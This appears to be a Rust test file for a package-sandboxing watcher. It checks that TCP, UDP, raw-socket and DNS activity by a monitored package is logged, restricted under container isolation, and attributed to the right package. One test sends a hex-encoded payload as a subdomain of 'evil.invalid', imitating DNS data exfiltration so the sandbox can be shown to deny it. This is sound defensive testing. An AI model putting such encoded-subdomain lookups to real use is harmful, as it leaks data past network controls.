//! Connections are made by the watcher in the package's stead; names are asked for and denied.

use std::io::{Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::thread::JoinHandle;

use lanner_agent::watch::{Order, Role};
use lanner_core::Isolation;

use crate::harness::Scan;

/// Accepts once, reads to the end of what is sent, answers with it, and tells the peer's port.
fn echo() -> (u16, JoinHandle<(u16, String)>) {
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = server.local_addr().unwrap().port();
    let served = std::thread::spawn(move || {
        let (mut peer, from) = server.accept().unwrap();
        let mut text = String::new();
        peer.read_to_string(&mut text).unwrap();
        peer.write_all(text.as_bytes()).unwrap();
        (from.port(), text)
    });
    (port, served)
}

#[test]
fn a_connection_is_made_once_and_seen_and_ends_when_the_package_ends_it() {
    for verb in ["connect", "connect later"] {
        let (port, served) = echo();
        let said = Scan::new().run(&[verb, "127.0.0.1", &port.to_string()]);
        said.printed("connect ok\nagain EISCONN\nhello\n");
        assert_eq!(served.join().unwrap().1, "hello");
        said.must("net", &format!("connect 127.0.0.1:{port} "));
        said.must("socket", "socket ipv4 tcp SUCCESS");
    }
}

#[test]
fn a_server_and_its_client_inside_are_seen() {
    let said = Scan::new().run(&["serve"]);
    said.printed("bind ok\nlisten ok\nhello\n");
    said.must("net", "bind 127.0.0.1:0 SUCCESS");
    said.must("net", "listen");
}

#[test]
fn a_refused_connection_is_refused_and_seen() {
    let port = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let said = Scan::new().run(&["connect", "127.0.0.1", &port.to_string()]);
    said.printed("connect ECONNREFUSED\n");
    said.must("net", &format!("connect 127.0.0.1:{port}"));
}

#[test]
fn in_a_container_only_the_way_out_is_connected() {
    let (port, served) = echo();
    let other = TcpListener::bind("127.0.0.1:0").unwrap();
    let mut scan = Scan::new();
    (scan.isolation, scan.proxy_port) = (Isolation::Container, Some(port));
    let closed = other.local_addr().unwrap().port().to_string();
    let said = scan.run(&["connect", "127.0.0.1", &closed]);
    said.printed("connect ECONNREFUSED\n");
    said.must("net", &format!("connect 127.0.0.1:{closed} ECONNREFUSED"));
    other.set_nonblocking(true).unwrap();
    assert!(other.accept().is_err(), "it was connected all the same");
    let said = scan.run(&["connect", "192.0.2.1", &port.to_string()]);
    said.printed("connect ECONNREFUSED\n");
    let said = scan.run(&["datagram", "127.0.0.1", "53", "x"]);
    said.printed("socket EPERM\n");
    said.must("socket", "socket ipv4 udp EPERM");
    scan.run(&["raw"]).printed("raw EPERM\npacket EPERM\n");
    scan.run(&["netlink"]).printed("socket ok\n");
    let said = scan.run(&["connect", "127.0.0.1", &port.to_string()]);
    said.printed("connect ok\nagain EISCONN\nhello\n");
    served.join().unwrap();
}

#[test]
fn in_a_container_a_socket_gets_no_further_than_loopback_even_behind_our_back() {
    let mut scan = Scan::new();
    scan.isolation = Isolation::Container;
    scan.run(&["device"]).printed("lo\nunbind EPERM\n");
}

#[test]
fn a_request_of_the_way_out_is_put_down_to_who_made_the_connection() {
    let (port, served) = echo();
    let mut scan = Scan::new();
    scan.proxy_port = Some(port);
    let package = scan.text("package");
    let mut running = scan.start();
    running.launch(Role::Phase, &[&package, "connect", "127.0.0.1", &port.to_string()]);
    running.until_exit();
    let (peer_port, _) = served.join().unwrap();
    running.order(&Order::ProxyRequest { peer_port, host: "h.invalid".into(), port: 443, allowed: true });
    running.until_alert("way out", "h.invalid allowed=true by ");
    let said = running.finish(1000);
    said.must("way out", &format!("by {package} connect"));
}

#[test]
fn an_unconnected_socket_stays_so() {
    for isolation in [Isolation::Namespaces, Isolation::Container] {
        let mut scan = Scan::new();
        scan.isolation = isolation;
        let said = scan.run(&["unspec"]);
        assert!(said.output.starts_with("connect "), "{}", said.output);
    }
}

#[test]
fn datagrams_to_an_address_are_seen() {
    let server = UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = server.local_addr().unwrap().port().to_string();
    let said = Scan::new().run(&["datagram", "127.0.0.1", &port, "out"]);
    said.printed("sendto ok\n");
    said.must("net", &format!("sendto 127.0.0.1:{port}"));
    let mut text = [0; 10];
    assert_eq!(server.recv(&mut text).unwrap(), 3);
}

#[test]
fn a_name_is_denied_and_put_down_to_who_asked() {
    // Not port 53, which only root may bind: so the asker is whoever sent last without being another event.
    let dns = UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = dns.local_addr().unwrap().port().to_string();
    let mut scan = Scan::new();
    scan.dns = Some(dns.into());
    let package = scan.text("package");
    let mut running = scan.start();
    running.launch(Role::Phase, &[&package, "ask", &port, "68656c6c6f.evil.invalid"]);
    running.until_exit();
    let said = running.finish(0);
    said.printed("rcode 3\n");
    let asked_on_53 = said.saw("asked", "68656c6c6f.evil.invalid");
    let sent = said.saw("net", &format!("sendto 127.0.0.1:{port}"));
    assert!(asked_on_53 || sent, "{:?}", said.alerts);
}
